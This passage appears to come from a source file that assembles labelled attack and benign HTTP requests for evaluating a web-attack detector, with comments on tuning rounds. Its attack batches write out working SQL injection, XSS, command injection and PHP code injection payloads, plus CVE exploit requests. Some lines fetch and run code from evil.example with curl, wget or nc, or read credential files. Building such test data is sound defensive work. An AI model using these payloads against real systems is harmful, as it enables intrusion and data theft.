q:id=1'/*!or*/1=1-- -
q:id=1 /*!UNION*/ /*!SELECT*/ 1
q:id=1%a0or%a01=1
q:id=1'||1#
q:id=1' or true#
q:id=1' or not false#
q:id=1' or 2>1#
q:id=1' or '1
q:id=1';shutdown with nowait;--
q:q=" or ""="
q:q=") or ("1")=("1
q:q='; select pg_sleep(5); --
q:q=' and (select substr(table_name,1,1) from all_tables where rownum=1)='A
q:q=x' and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand(0)*2)) x from information_schema.tables group by x)#
q:q=1 and (select 1 from (select sleep(3))a)
ua:Mozilla/5.0' or 1=1 --
ref:https://portal.example/tin-tuc?id=1 union select null,version()--
qn:id'or'1'='1
pe:/tin-tuc/1' or '1'='1
"""),
("xss", "batch 4: OWASP XSS Filter Evasion Cheat Sheet; WHATWG HTML event handler list; PortSwigger XSS cheat sheet", r"""
q:q=<script>alert(document.domain)</script>
q:q=<script>confirm`1`</script>
q:q=<script src=data:,alert(1)></script>
q:q=<script>eval(location.hash.slice(1))</script>
q:q=<script>window.onerror=alert;throw 1</script>
q:q=<img src=1 onerror=prompt(1)>
q:q=<img src onerror=alert(1)>
q:q=<img src=x onerror=alert&#40;1&#41;>
q:q=<img src=x onerror=&#x61;lert(1)>
q:q=<svg onload=alert&lpar;1&rpar;>
q:q=<svg/onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`;//
q:q=<body onfocus=alert(1) autofocus>
q:q=<a href=javascript&colon;alert(1)>x</a>
q:q=<a href="javascript&#58;alert(1)">x</a>
q:q=<a href=" javascript:alert(1)">x</a>
q:q=<a href="jav	ascript:alert(1)">x</a>
q:q=<iframe src=jaVaScRiPt:alert(1)>
q:q=<object data=data:text/html,<script>alert(1)</script>>
q:q=<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>
q:q=<form><input formaction=javascript:alert(1) type=submit value=x>
q:q=<math href=javascript:alert(1)>x</math>
q:q=<table background=javascript:alert(1)>
q:q=<div onmouseenter=alert(1)>x</div>
q:q=<p onclick=alert(1)>x</p>
q:q=<span onanimationstart=alert(1)>x</span>
q:q=<x contenteditable onblur=alert(1)>x
q:q=<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a>
q:q=<img src=x onerror=import(`//evil.example`)>
q:q=<img src=x onerror=fetch(`//evil.example`)>
q:q='onmouseover='alert(1)'
q:q=" onfocus="alert(1)" autofocus="
q:q=javascript:alert(1)
q:q=javascript://%0aalert(1)
q:q=<svg><script xlink:href=data:,alert(1)></script>
q:q=<script>alert(String.fromCharCode(49))</script>
q:q=<script>\u0061lert(1)</script>
q:q=<script>a=alert;a(1)</script>
q:q=<script>[1].map(alert)</script>
q:q=<script>top[`al`+`ert`](1)</script>
q:q=<script>Function`alert\x281\x29```</script>
"""),
("command-injection", "batch 4: POSIX shell grammar, GNU coreutils, cmd.exe; PortSwigger OS command injection", r"""
q:ip=1.1.1.1;ls
q:ip=1.1.1.1|ls -al
q:ip=1.1.1.1&&id
q:ip=1.1.1.1||id
q:ip=1.1.1.1%0als
q:ip=1.1.1.1`uname`
q:ip=1.1.1.1$(uname -a)
q:ip=1.1.1.1;cat /etc/hosts
q:ip=1.1.1.1;cat /etc/group
q:ip=1.1.1.1;ls /var/www
q:ip=1.1.1.1;ps aux
q:ip=1.1.1.1;netstat -an
q:ip=1.1.1.1;ifconfig -a
q:ip=1.1.1.1;uname -r
q:ip=1.1.1.1;wget evil.example/x
q:ip=1.1.1.1;curl evil.example
q:ip=1.1.1.1|nc evil.example 80
q:ip=1.1.1.1;ping -c1 evil.example
q:ip=1.1.1.1;nslookup evil.example
q:ip=1.1.1.1;dig evil.example
q:ip=1.1.1.1;sleep 5;
q:ip=1.1.1.1&dir
q:ip=1.1.1.1&type c:\boot.ini
q:ip=1.1.1.1|net view
q:ip=1.1.1.1&ipconfig
q:ip=1.1.1.1&&ping -n 5 127.0.0.1
q:ip=1.1.1.1;$SHELL -c id
q:ip=1.1.1.1;${SHELL} -c id
q:ip=1.1.1.1;e\c\h\o hi
q:ip=1.1.1.1;/bin/ls
"""),
("code-injection", "batch 4: PHP manual (functions, variables, tags), PHP object injection write-ups", r"""
q:x=<?php phpinfo(); ?>
q:x=<?php echo `id`; ?>
q:x=<?php include('http://evil.example/s.txt'); ?>
q:x=<?= system('id') ?>
q:x=phpinfo();//
q:x=;phpinfo();
q:x=';system('id');'
q:x=".system('id')."
q:x=${@system(id)}
q:x=$_REQUEST[x]($_REQUEST[y])
q:x=$GLOBALS['a']
q:x=echo file_get_contents('/etc/passwd');
q:x=print_r(scandir('.'));
q:x=var_dump(getenv());
q:x=readfile('/etc/passwd');
q:x=show_source(__FILE__);
q:x=highlight_file(__FILE__);
q:x=chr(115).chr(121).chr(115)
q:x=O:4:"Test":1:{s:1:"a";s:2:"id";}
q:x=C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}
"""),
]

# Fourth batch of benign requests, written after round four and measured before any change:
# prose with semicolons, pipes and ampersands before ordinary words that are also command
# names, addresses and phone lists, and numbers compared in words.
BENIGN += [
("odd-but-legit-4", "batch 4: feedback and search text with punctuation before common words (semicolons, pipes, ampersands)", r"""
q:comment=Đã nhận hồ sơ; last updated 07/12/2026
q:comment=Địa chỉ mới; find us at số 5 Lê Lợi
q:comment=Xin lỗi; type your name again please
q:comment=ok; set the date to Monday
q:comment=Cảm ơn; more info at the front desk
q:comment=Giờ làm việc 8h-17h; w/ lunch break 12h
q:comment=Nộp hồ sơ; mail us if it fails
q:comment=Thanks; echo of my earlier request
q:comment=Sorry; who should I call?
q:comment=Done; ping me when ready
q:comment=Noted; host of the event is UBND
q:comment=No; time to go
q:comment=Yes; cat and dog allowed
q:comment=Fine; sleep well
q:comment=Menu | Home | Contact
q:comment=Trang chủ | Tin tức | Liên hệ
q:comment=Q&A | FAQ
q:comment=Rock & Roll
q:comment=Mom & Dad
q:comment=Phòng Tư pháp & Hộ tịch
q:comment=Tài nguyên & Môi trường
q:comment=Giáo dục & Đào tạo; Y tế
q:title=Ban Dân tộc | Sở Nội vụ | Sở Y tế
q:phones=0912345678; 0987654321
q:emails=a@x.vn; b@y.vn
q:q=select 2 of 3 options
q:q=1 or more files
q:q=2 and 3 bedroom apartments
q:q=10 or 20 minutes
q:q=top 10 schools
q:q=case study 2026
q:q=from 8 to 17
q:q=between 1 and 5 years
q:q=like new condition
q:q=is null and void
q:q=not exists
q:q=if and only if
q:q=union of 3 districts
q:q=order of documents
q:q=group of 5 people
q:q=having trouble logging in
q:q=limit 2 per person
q:q=into the city
q:q=drop off point
q:q=delete my data request
q:q=exec director contact
q:q=where and when
q:q=sleep 8 hours
q:q=waitfor results
q:q=char limit 500
q:q=concat two names
q:q=version 1.2.3
q:q=user manual pdf
q:q=database of companies
q:q=schema of the form
q:q=table 3.2
q:q=column B
q:q=sys admin course
q:q=master degree
q:q=0x1F color code
q:q=@@ symbol meaning
q:q=-- dashes in names
q:q=/* comment */ in css
q:q=a'b
q:q=Ngô Quyền's statue
q:q=L'Oréal
q:q=rock'n'roll
q:q="quoted" and 'single'
q:q=5' 11" tall
q:q=10' x 12' room
q:q=1' 2" 3'
q:q=it's 1=1
q:name=Nguyễn Thị "Hoa"
q:name=O'Neil-Smith
q:name=Mc'Donald
q:addr=12/3A Nguyễn Trãi, P.2, Q.5
q:note=Hạn nộp: 31/12; phí: 50.000đ; nơi nhận: bộ phận một cửa
q:note=Bring ID (original) + copy x2
q:note=Lưu ý: mang theo CCCD/CMND
q:note=Xem thêm tại https://dichvucong.example.gov.vn/huong-dan
"""),
]

# Fifth batch, written after round five and measured before round six.
ATTACKS += [
("rfi", "batch 5: OWASP WSTG-INPV-11.2; PHP allow_url_include; RFI with address hosts and trailing '?'", r"""
q:inc=http://198.51.100.23/x.txt
q:page=https://203.0.113.77:8443/payload
q:file=ftp://198.51.100.23/pub/x
q:theme=http://evil.example/t?
q:_PHPLIB[libdir]=http://evil.example/lib/
q:load=file://198.51.100.23/share/x.php
"""),
("command-injection", "batch 5: commands given whole as a parameter value (diagnostic pages), shell arithmetic and process substitution (bash manual)", r"""
q:cmd=ls -la /
q:x=ps aux
q:x=netstat -tulpn
q:x=uname -a
q:x=cat /proc/version
q:x=wget -O /tmp/x http://evil.example/x
q:x=curl -o /tmp/s http://evil.example/s
q:x=python3 -c 'import os;os.system("id")'
q:x=nc -lvp 4444
q:x=bash -c 'id'
q:x=/usr/bin/env
q:x=$((1+1))
q:x=echo $((7*7))
q:x=diff <(ls) <(ls /tmp)
q:x=$(</etc/passwd)
q:x=;alias ls='id'
q:x=|| whoami #
q:x=cmd.exe /c ver
q:x=powershell.exe -Command Get-Process
"""),
("code-injection", "batch 5: PHP high-risk functions and superglobals named alone (PHP manual), Java and Python names", r"""
q:f=shell_exec
q:f=passthru
q:f=phpinfo
q:x=base64_decode
q:x=$_SERVER
q:x=$_GET
q:x=call_user_func
q:x=proc_open
q:x=java.lang.Runtime
q:x=javax.script.ScriptEngineManager
q:x=__import__
q:x=subprocess.Popen
"""),
("sqli", "batch 5: SQL functions and keywords alone or in short fragments (vendor manuals)", r"""
q:x=sleep(10)
q:x=benchmark(10000000,md5(1))
q:x=pg_sleep(10)
q:x=waitfor delay '0:0:10'
q:x=@@version
q:x=version()
q:x=1 and 1=1
q:x=1' and 1=1 and '1'='1
q:x=(select 1)
q:x=select user()
q:x=select * from users
q:x=select password from users where id=1
q:x=insert into users(name) values('x')
q:x=drop table users
q:x=exec xp_cmdshell 'dir'
q:x=load_file('/etc/passwd')
"""),
("protocol-abuse", "batch 5: control characters and IIS %u forms in the target (RFC 3986, CWE-176)", r"""
qr:x=a%01b
qr:x=%1b[31m
qr:x=%7f
qr:x=%u1234
qr:x=%uFF0E%uFF0E/
p:/%0b/admin
"""),
("scanner-ua", "batch 5: scanner markers in request paths (scanner documentation and honeypot write-ups)", r"""
p:/w00tw00t.at.ISC.SANS.DFind:)
p:/acunetix-wvs-test-for-some-inexistent-file
p:/nessus_is_probing_you_/
p:/NessusTest
p:/nikto-test-1234.html
"""),
("xss", "batch 5: XSS through less common parameters and headers", r"""
q:lang=en"><script>alert(1)</script>
q:callback=<script>alert(1)</script>
q:utm_source=<img src=x onerror=alert(1)>
ua:"><svg/onload=alert(1)>
ref:javascript:alert(document.cookie)
q:x=<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
q:x=<noscript><p title="</noscript><img src=x onerror=alert(1)>">
q:x=<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>
"""),
("path-traversal", "batch 5: traversal in header values and with mixed separators", r"""
ref:https://portal.example/../../../../etc/passwd
ua:../../../../../../windows/win.ini
q:path=..\\..\\..\\..\\etc\\passwd
q:path=.../.../.../etc/passwd
q:path=..%c0%af../..%c0%af../etc/passwd
"""),
("secret-backup-probe", "batch 5: backups and dumps named after the host or date, admin consoles (WSTG-CONF-04/05)", r"""
p:/backup_2026-12-07.zip
p:/portal.example.gov.vn.zip
p:/db_backup.tar.gz
p:/mysql.sql
p:/export.sql
p:/users.csv.bak
p:/.env.bak
p:/config.yml.bak
p:/admin/phpinfo.php
p:/jenkins/script
p:/manager/status
p:/druid/index.html
p:/nacos/
p:/hystrix.stream
p:/env
"""),
]
BENIGN += [
("odd-but-legit-5", "batch 5: values that hold commands, function and file names for legitimate reasons (help search, IT service portal), numbers and symbols", r"""
q:q=ls command
q:q=ps aux meaning
q:q=netstat là gì
q:q=phpinfo page
q:q=shell_exec php
q:q=python subprocess
q:q=java runtime environment
q:q=sleep(10) in javascript
q:q=version
q:q=select
q:q=exec
q:q=drop
q:q=users
q:q=admin
q:q=root
q:q=passwd
q:q=shadow
q:q=hosts
q:q=server
q:q=env
q:q=config
q:q=backup
q:q=dump truck
q:q=mysql tutorial
q:q=sql server 2022
q:q=oracle database license
q:q=postgres vs mysql
q:q=mongodb $lookup
q:q=$ne meaning
q:q=regex ^abc$
q:q=a|b|c
q:q=x||y
q:q=x && y
q:q=1;2
q:q=[0-9]+
q:q=(a|b)*
q:q={{ }}
q:q=${ }
q:q=<%= %>
q:q=#{ }
q:q=%d %s
q:q=\n newline
q:q=\\server\share
q:q=C:\Users\Public
q:q=/home/user
q:q=/var/log
q:q=/etc
q:q=..
q:q=../
q:q=.htaccess tutorial
q:q=robots.txt
q:q=sitemap.xml
q:q=http://
q:q=https://www.example.gov.vn
q:q=192.168.1.1
q:q=127.0.0.1 meaning
q:q=localhost
q:q=169.254.169.254
q:q=file:///
q:q=ftp server
q:q=ldap server
q:q=xml parser
q:q=json to xml
q:q=cookie policy
q:q=session expired
q:q=PHPSESSID là gì
q:q=script
q:q=alert
q:q=onerror
q:q=iframe embed youtube
q:q=svg icons
q:q=img tag html
"""),
]

# Sixth batch of benign requests, written after round six and measured before any change:
# ordinary parameters of CMSs, file managers, search APIs and SSO flows.
BENIGN += [
("odd-but-legit-6", "batch 6: CMS, file-manager, OData and search-API parameters, SSO and CDN URLs, file names in include-style parameters", r"""
p:/index.php?cmd=save&id=5
p:/admin/filemanager/connector.php?cmd=open&target=l1_Lw
p:/ckfinder/core/connector/php/connector.php?command=GetFolders&type=Images
p:/index.php?action=edit&id=5
p:/index.php?do=login
p:/index.php?module=news&view=list&page=2
p:/index.php?page=about
p:/index.php?page=gioi-thieu&lang=vi
p:/index.php?template=default
p:/index.php?include=comments
p:/view.php?file=report.pdf
p:/download.php?file=bao-cao-2026.xlsx
p:/download.php?path=uploads/2026/12/a.jpg
p:/image.php?img=/images/logo.png&w=200
p:/odata/Products?$filter=startswith(Name,'A') and Price gt 10&$orderby=Name
p:/odata/Orders?$filter=Status eq 'Open' or Status eq 'New'
p:/api/search?q=title:(luat OR nghi-dinh) AND year:[2020 TO 2026]
p:/api/items?sort=name asc,created desc
p:/api/items?fields=id,name&where=status%3D%27open%27
p:/api/items?filter=name%20like%20%27Nguy%25%27
p:/api/v1/hoso?q=C%23&tel=%2B84%20(0)912
p:/assets/app.js?v=1.0.0-beta+exp.sha.5114f85
p:/integrity?hash=sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=
p:/api/track?data=%7B%22a%22%3A%22b%22%2C%22n%22%3A1%7D
p:/login?continue=https%3A%2F%2Fid.vneid.gov.vn%2Fauth
p:/sso/callback?return_to=https://dichvucong.example.gov.vn/
p:/embed?url=https://www.youtube.com/embed/abc123
p:/proxy/img?src=https://cdn.example.com/a.png
p:/proxy/img?src=https://203.0.113.10/a.jpg
p:/rss?feed=https://baochinhphu.example.vn/rss/home.rss
p:/share?u=https://portal.example.gov.vn/tin-tuc/123&t=Th%C3%B4ng%20b%C3%A1o
p:/print?url=/vi/thu-tuc/123
p:/index.php?option=com_search&searchword=thu%E1%BA%BF%20%27nh%C3%A0%20%C4%91%E1%BA%A5t%27
p:/wp-json/wp/v2/search?search=select%20a%20form&type=post
p:/?s=%22or%22
p:/?s=1%3D1
p:/?s=a%27
p:/?s=%3Cb%3E
p:/?s=alert
p:/tim-kiem?tu-khoa=script%20tuy%E1%BB%83n%20sinh
p:/tim-kiem?tu-khoa=union%20%C4%91o%C3%A0n%20thanh%20ni%C3%AAn
p:/tim-kiem?tu-khoa=drop%20box
p:/tim-kiem?tu-khoa=1%2F2%20ng%C3%A0y
p:/tim-kiem?tu-khoa=x%3Dy
p:/api/geo?lat=10.762622&lon=106.660172&r=5km
p:/api/calc?expr=(100-20)*1.1
p:/api/convert?from=USD&to=VND&amount=1e3
p:/api/v1/files/2026/12/07/bao%20cao%20(final)%20v2.pdf
p:/static/css/style.css?v=%7B%7Bversion%7D%7D
p:/static/js/i18n/vi.js?t=1733560000000
p:/calendar?date=2026-12-07&view=week#top
p:/forum/thread/123?highlight=cat%20/etc/passwd%20permission%20denied
p:/forum/thread/124?highlight=SELECT%20*%20FROM%20bang%20lỗi
p:/forum/thread/125?highlight=%3Cscript%3E%20tag%20b%E1%BB%8B%20l%E1%BB%97i
m:GET /.well-known/change-password HTTP/1.1
m:GET /.well-known/assetlinks.json HTTP/1.1
m:GET /.well-known/apple-app-site-association HTTP/1.1
m:OPTIONS /api/v1/hoso HTTP/2.0
m:HEAD /robots.txt HTTP/1.0
"""),
]

# Seventh batch, written after round seven and left untuned: its figure is the last estimate.
ATTACKS += [
("cve-exploit", "batch 7: botnet and scanner exploit requests from vendor advisories and CVE write-ups (wp-file-manager, vBulletin, JBoss, Tomcat, Elasticsearch, Docker, YARN, Cacti, Zyxel, Jira, GLPI, Magento)", r"""
p:/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php
p:/ajax/render/widget_tabbedcontainer_tab_panel?subWidgets[0][template]=widget_php&subWidgets[0][config][code]=phpinfo();
p:/invoker/JMXInvokerServlet
p:/manager/text/deploy?path=/x&war=http://evil.example/x.war
p:/_search?source={"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\")"}}}
p:/containers/json
p:/ws/v1/cluster/apps/new-application
p:/remote_agent.php?action=polldata&poller_id=;id&host_id=1&local_data_ids[]=1
p:/cgi-bin/ViewLog.asp
p:/vendor/htmlawed/htmlawed/htmLawedTest.php
p:/api/v1/pods
p:/debug/pprof/goroutine?debug=2
p:/HNAP1/
p:/boaform/admin/formLogin?username=admin&psd=admin
p:/cgi-bin/mainfunction.cgi?action=login&keyPath=%27%0A/bin/sh${IFS}-c${IFS}id%0A%27&loginUser=a&loginPwd=a
p:/webtools/control/ProgramExport
p:/wls-wsat/CoordinatorPortType
"""),
("mixed", "batch 7: payloads of earlier classes in placements and encodings not used so far (parameter names, path segments, Referer query, double and mixed encodings)", r"""
qn:<script>alert(1)</script>
qn:1' or '1'='1
qn:../../../etc/passwd
qn:{{7*7}}
qn:$(id)
pe:/api/v1/users/1;cat /etc/passwd
pe:/api/v1/users/1' or '1'='1
pe:/api/v1/users/{{7*7}}
pe:/api/v1/users/<img src=x onerror=alert(1)>
pe:/api/v1/users/..;/..;/admin
ref:https://www.google.com/search?q=1'+union+select+1,2--
ref:https://portal.example/?next=//evil.example
ref:https://portal.example/?q=${jndi:ldap://evil.example/x}
ref:https://portal.example/?cmd=;id
qr:q=%253Cscript%253Ealert%25281%2529%253C%252Fscript%253E
qr:q=%25%32%37%20or%201=1--
qr:doc=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fhosts
qr:x=%2524%2528id%2529
qr:x=%u0027%u0020or%u00201=1--
qr:x=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be
qr:x=&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
qr:x=\u003cimg src=x onerror=alert(1)\u003e
ua:Mozilla/5.0 (X11; Linux x86_64) $(curl evil.example/x|sh)
ua:Mozilla/5.0;cat /etc/passwd
ua:<?php system($_GET['c']); ?>
ua:{{7*7}}${7*7}
ua:../../../../etc/shadow
ref:() { :;}; echo; /usr/bin/id
"""),
]
